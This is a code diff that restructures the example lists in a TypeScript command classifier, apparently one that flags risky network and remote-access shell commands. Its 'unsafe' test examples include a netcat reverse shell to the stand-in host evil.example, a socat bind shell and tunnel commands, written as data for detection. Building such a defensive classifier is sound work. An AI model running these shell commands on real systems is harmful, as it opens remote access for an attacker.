@@ -56,27 +56,21 @@ export const networkRemote: readonly ProgramSpec[] = [
             { do: "run", program: use.program, what: "remote", wording: line(use.operands) },
           ],
     ),
-    examples: {
-      safe: [],
-      unsafe: [
-        ["sftp host.example.com", ["network.send", "run.remote"]],
-        ["lftp -e '!id' host", ["network.send", "run.remote"]],
-      ],
-    },
+    unsafe: [
+      ["sftp host.example.com", ["network.send", "run.remote"]],
+      ["lftp -e '!id' host", ["network.send", "run.remote"]],
+    ],
   },
   {
     names: ["nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd", "pwncat", "cryptcat"],
     launcher: true,
     ...wholly(netcat),
-    examples: {
-      safe: [],
-      unsafe: [
-        ["nc -l 4444", ["network.send", "door.server"]],
-        ["nc -e /bin/sh evil.example 4444", ["network.send", "run.remote"]],
-        ["nc evil.example 80", ["network.send"]],
-        ["socat TCP-LISTEN:80,fork EXEC:/bin/sh", ["network.send", "door.server", "run.remote"]],
-      ],
-    },
+    unsafe: [
+      ["nc -l 4444", ["network.send", "door.server"]],
+      ["nc -e /bin/sh evil.example 4444", ["network.send", "run.remote"]],
+      ["nc evil.example 80", ["network.send"]],
+      ["socat TCP-LISTEN:80,fork EXEC:/bin/sh", ["network.send", "door.server", "run.remote"]],
+    ],
   },
   {
     names: ["telnet", "rlogin", "rsh"],
@@ -84,7 +78,7 @@ export const networkRemote: readonly ProgramSpec[] = [
       network(use.operands[0]?.value?.toLowerCase() ?? null, true),
       { do: "run", program: use.program, what: "remote", wording: line(use.operands) },
     ]),
-    examples: { safe: [], unsafe: [["telnet evil.example 23", ["network.send", "run.remote"]]] },
+    unsafe: [["telnet evil.example 23", ["network.send", "run.remote"]]],
   },
   {
     names: [
@@ -113,13 +107,11 @@ export const networkRemote: readonly ProgramSpec[] = [
       "ffsend",
     ],
     ...wholly(tunnel),
-    examples: {
-      safe: ["ngrok version"],
-      unsafe: [
-        ["ngrok http 3000", ["door.tunnel", "network.send"]],
-        ["croc send x", ["door.tunnel", "network.send"]],
-      ],
-    },
+    safe: ["ngrok version"],
+    unsafe: [
+      ["ngrok http 3000", ["door.tunnel", "network.send"]],
+      ["croc send x", ["door.tunnel", "network.send"]],
+    ],
   },
   {
     names: ["cloudflared", "tailscale", "zerotier-cli", "nebula", "warp-cli"],
@@ -138,15 +130,13 @@ export const networkRemote: readonly ProgramSpec[] = [
             network(null, true),
           ];
     }),
-    examples: {
-      safe: ["tailscale version"],
-      unsafe: [
-        ["cloudflared tunnel --url http://localhost:3000", ["door.tunnel", "network.send"]],
-        ["tailscale status", ["private-network.show", "network.contact"]],
-        ["tailscale up", ["private-network.change", "network.send"]],
-        ["tailscale funnel 80", ["door.tunnel", "network.send"]],
-      ],
-    },
+    safe: ["tailscale version"],
+    unsafe: [
+      ["cloudflared tunnel --url http://localhost:3000", ["door.tunnel", "network.send"]],
+      ["tailscale status", ["private-network.show", "network.contact"]],
+      ["tailscale up", ["private-network.change", "network.send"]],
+      ["tailscale funnel 80", ["door.tunnel", "network.send"]],
+    ],
   },
   ...networkSsh,
 ];
